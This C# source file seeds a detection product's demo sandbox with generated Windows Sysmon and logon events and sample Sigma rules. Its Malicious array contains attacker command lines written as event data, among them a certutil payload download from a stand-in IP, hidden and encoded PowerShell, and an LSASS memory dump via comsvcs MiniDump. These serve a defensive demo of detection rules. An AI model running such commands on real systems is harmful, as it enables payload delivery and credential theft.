using System.Text;
using System.Text.Json;
using CraftedSignal.Domain.Audit;
using CraftedSignal.Domain.Common;
using CraftedSignal.Domain.Deployments;
using CraftedSignal.Domain.Jobs;
using CraftedSignal.Domain.Persistence;
using CraftedSignal.Domain.Rules;
using CraftedSignal.Domain.Targets;
using CraftedSignal.Domain.Tenancy;
using CraftedSignal.Domain.Testing;
using Microsoft.EntityFrameworkCore;

namespace CraftedSignal.Domain.Sandbox;

/// <summary>What "Create a demo" made: the sandbox to open and how many of each.</summary>
public sealed record DemoCreated(Guid TargetId, int Events, int Rules);

/// <summary>
/// "Create a demo" on a fresh install: a Sandbox target with a few thousand generated Windows events (Sysmon process
/// creation, Security logons; mostly benign, a few malicious), and sample Sigma rules with test cases, deployed to that
/// sandbox so that alerts appear within a minute.
/// The rules are deployed <b>without review</b>: the person who creates the demo is their author and could not approve
/// them. This is a documented demo seed, limited to the demo's own new sandbox (which sends nothing anywhere), and audited
/// as such (<c>sandbox.demo_created</c> with <c>deployedWithoutReview</c>); the rules stay Drafts, and deploying them to
/// any other target goes through review as every rule does. Owners and Admins only.
/// </summary>
public sealed class SandboxDemo(
    IDbContextFactory<AppDbContext> dbFactory,
    CurrentTenant tenant,
    TimeProvider time,
    IWorkQueue queue,
    TargetService targets,
    SandboxService sandbox,
    RuleService rules,
    RuleTestService tests)
{
    public const string TargetName = "Demo sandbox";

    public async Task<Result<DemoCreated>> CreateAsync(CancellationToken cancellationToken = default)
    {
        await using (var check = await dbFactory.CreateDbContextAsync(cancellationToken))
        {
            var access = await Access.RequireAsync(check, tenant, Permission.Administer, cancellationToken);
            if (!access.Succeeded)
                return access.Error;
            if (await check.SiemTargets.AnyAsync(t => t.Name == TargetName, cancellationToken))
                return new Conflict($"A target named '{TargetName}' exists already: the demo was created (delete that target to create it again).");
        }

        var target = await targets.CreateAsync(TargetName, TargetKind.Sandbox, cancellationToken: cancellationToken);
        if (!target.Succeeded)
            return target.Error;
        var events = DemoEvents.Generate(time.GetUtcNow().UtcDateTime);
        var uploaded = await sandbox.UploadAsync(target.Value, new MemoryStream(Encoding.UTF8.GetBytes(string.Join('\n', events))), replace: true, cancellationToken);
        if (!uploaded.Succeeded)
            return uploaded.Error;

        var created = new List<Guid>();
        foreach (var sample in DemoRules.All)
        {
            var rule = await rules.CreateAsync(new RuleDraft(RuleFormat.Sigma, sample.Content, Message: "Demo rule"), cancellationToken: cancellationToken);
            if (!rule.Succeeded)
                return rule.Error;
            foreach (var testCase in sample.Cases)
            {
                var saved = await tests.SaveCaseAsync(rule.Value.RuleId, null, testCase.Name, testCase.Expectation, null, testCase.Events, cancellationToken);
                if (!saved.Succeeded)
                    return saved.Error;
            }

            var run = await tests.StartRunAsync(rule.Value.RuleId, cancellationToken);
            if (!run.Succeeded)
                return run.Error;
            created.Add(rule.Value.RuleId);
        }

        await using var db = await dbFactory.CreateDbContextAsync(cancellationToken);
        var now = time.GetUtcNow().UtcDateTime;
        var companyId = tenant.CompanyId!.Value;
        var versions = await db.RuleVersions.Where(v => created.Contains(v.RuleId) && v.Number == 1)
            .Select(v => new { v.RuleId, v.ContentSha256 }).ToListAsync(cancellationToken);
        var work = new List<Guid>();
        foreach (var version in versions)
        {
            var id = db.AddWork(DeploymentService.WorkKind, companyId, now);
            work.Add(id);
            db.Deployments.Add(new Deployment
            {
                Id = id,
                CompanyId = companyId,
                RuleId = version.RuleId,
                Action = DeploymentAction.Deploy,
                RuleVersion = 1,
                TargetId = target.Value,
                ContentSha256 = version.ContentSha256,
                Status = DeploymentStatus.Queued,
                RequestedBy = $"{tenant.UserName} (demo seed)",
                CreatedAt = now,
            });
        }

        db.Audit(tenant.ToActor(), companyId, AuditActions.SandboxDemoCreated, now, "target", target.Value.ToString(),
            new { target = TargetName, events = events.Count, rules = created, deployedWithoutReview = true, reason = "demo seed on the demo's own sandbox" });
        await db.SaveChangesAsync(cancellationToken);
        queue.EnqueueAll(work);
        return new DemoCreated(target.Value, events.Count, created.Count);
    }
}

/// <summary>A demo rule and its test cases.</summary>
internal sealed record DemoRule(string Content, IReadOnlyList<DemoCase> Cases);

internal sealed record DemoCase(string Name, TestExpectation Expectation, string Events);

/// <summary>
/// Deterministic demo events (a fixed seed; times count back from the moment of creation) in the shape of Windows
/// events exported as JSON: <c>Event.System</c> and <c>Event.EventData</c>, as the engine reads EVTX exports.
/// </summary>
internal static class DemoEvents
{
    public const int Benign = 3000;

    private static readonly string[] Hosts = [.. Enumerable.Range(1, 24).Select(i => $"WS-{i:000}.corp.example"), "SRV-FILE01.corp.example", "SRV-DC01.corp.example"];
    private static readonly string[] Users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"];

    private static readonly (string Parent, string Image, string CommandLine)[] Processes =
    [
        (@"C:\Windows\explorer.exe", @"C:\Program Files\Google\Chrome\Application\chrome.exe", "\"chrome.exe\" --profile-directory=Default"),
        (@"C:\Windows\explorer.exe", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "\"WINWORD.EXE\" /n \"Q3 report.docx\""),
        (@"C:\Windows\explorer.exe", @"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", "\"EXCEL.EXE\" budget.xlsx"),
        (@"C:\Windows\explorer.exe", @"C:\Windows\System32\cmd.exe", "\"cmd.exe\""),
        (@"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\ipconfig.exe", "ipconfig /all"),
        (@"C:\Windows\System32\services.exe", @"C:\Windows\System32\svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p"),
        (@"C:\Windows\System32\svchost.exe", @"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
        (@"C:\Windows\explorer.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1"),
        (@"C:\Windows\System32\svchost.exe", @"C:\Program Files\Windows Defender\MsMpEng.exe", "MsMpEng.exe"),
        (@"C:\Windows\explorer.exe", @"C:\Windows\System32\notepad.exe", "notepad.exe C:\\Users\\Public\\notes.txt"),
        (@"C:\Windows\System32\svchost.exe", @"C:\Windows\System32\certutil.exe", "certutil.exe -verify C:\\certs\\intranet.cer"),
    ];

    /// <summary>The few malicious events among the benign ones, each meant for one demo rule.</summary>
    private static readonly (string Parent, string Image, string CommandLine)[] Malicious =
    [
        (@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Windows\System32\cmd.exe", "cmd.exe /c whoami && net group \"Domain Admins\" /domain"),
        (@"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -w hidden -nop -c iex(gc $env:TEMP\\a.txt)"),
        (@"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
        (@"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA="),
        (@"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\Public\\p.bin"),
        (@"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full"),
    ];

    public static IReadOnlyList<string> Generate(DateTime now)
    {
        var random = new Random(20251202);
        var start = now.AddHours(-24);
        var events = new List<string>();
        for (var i = 0; i < Benign; i++)
        {
            var at = start.AddSeconds(i * 24 * 3600.0 / Benign + random.Next(0, 20));
            var host = Hosts[random.Next(Hosts.Length)];
            var user = Users[random.Next(Users.Length)];
            events.Add(random.Next(3) == 0
                ? Logon(at, host, user, failed: random.Next(40) == 0, random)
                : Process(at, host, user, Processes[random.Next(Processes.Length)], random));
        }

        // The malicious ones, spread over the last hours, and a burst of failed administrator logons on the file server.
        for (var i = 0; i < Malicious.Length; i++)
            events.Insert(Benign - 400 * (i + 1), Process(now.AddMinutes(-50 * (i + 1)), Hosts[(i * 5) % 24], Users[i], Malicious[i], random));
        for (var i = 0; i < 6; i++)
            events.Insert(Benign - 100 + i, Logon(now.AddMinutes(-30).AddSeconds(i * 3), "SRV-FILE01.corp.example", "Administrator", failed: true, random, "198.51.100.23"));
        return events;
    }

    private static string Process(DateTime at, string host, string user, (string Parent, string Image, string CommandLine) process, Random random) =>
        Windows(at, host, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, new Dictionary<string, object>
        {
            ["RuleName"] = "-",
            ["UtcTime"] = at.ToString("yyyy-MM-dd HH:mm:ss.fff"),
            ["ProcessGuid"] = $"{{{Guid(random)}}}",
            ["ProcessId"] = random.Next(1000, 20000),
            ["Image"] = process.Image,
            ["CommandLine"] = process.CommandLine,
            ["CurrentDirectory"] = $@"C:\Users\{user}\",
            ["User"] = $@"CORP\{user}",
            ["IntegrityLevel"] = "Medium",
            ["ParentImage"] = process.Parent,
            ["ParentCommandLine"] = Path.GetFileName(process.Parent),
        });

    private static string Logon(DateTime at, string host, string user, bool failed, Random random, string? address = null) =>
        Windows(at, host, "Microsoft-Windows-Security-Auditing", "Security", failed ? 4625 : 4624, new Dictionary<string, object>
        {
            ["TargetUserName"] = user,
            ["TargetDomainName"] = "CORP",
            ["LogonType"] = failed ? 3 : random.Next(2) == 0 ? 2 : 3,
            ["IpAddress"] = address ?? $"10.0.{random.Next(0, 4)}.{random.Next(10, 250)}",
            ["WorkstationName"] = host.Split('.')[0],
            ["Status"] = failed ? "0xc000006d" : "0x0",
            ["SubStatus"] = failed ? "0xc000006a" : "0x0",
            ["AuthenticationPackageName"] = failed || random.Next(4) == 0 ? "NTLM" : "Kerberos",
        });

    private static string Windows(DateTime at, string host, string provider, string channel, int eventId, Dictionary<string, object> data) =>
        JsonSerializer.Serialize(new Dictionary<string, object>
        {
            ["Event"] = new Dictionary<string, object>
            {
                ["System"] = new Dictionary<string, object>
                {
                    ["Provider"] = new Dictionary<string, object> { ["#attributes"] = new Dictionary<string, object> { ["Name"] = provider } },
                    ["EventID"] = eventId,
                    ["TimeCreated"] = new Dictionary<string, object> { ["#attributes"] = new Dictionary<string, object> { ["SystemTime"] = at.ToString("yyyy-MM-ddTHH:mm:ss.fffZ") } },
                    ["Channel"] = channel,
                    ["Computer"] = host,
                },
                ["EventData"] = data,
            },
        });

    private static string Guid(Random random)
    {
        var bytes = new byte[16];
        random.NextBytes(bytes);
        return new Guid(bytes).ToString().ToUpperInvariant();
    }
}
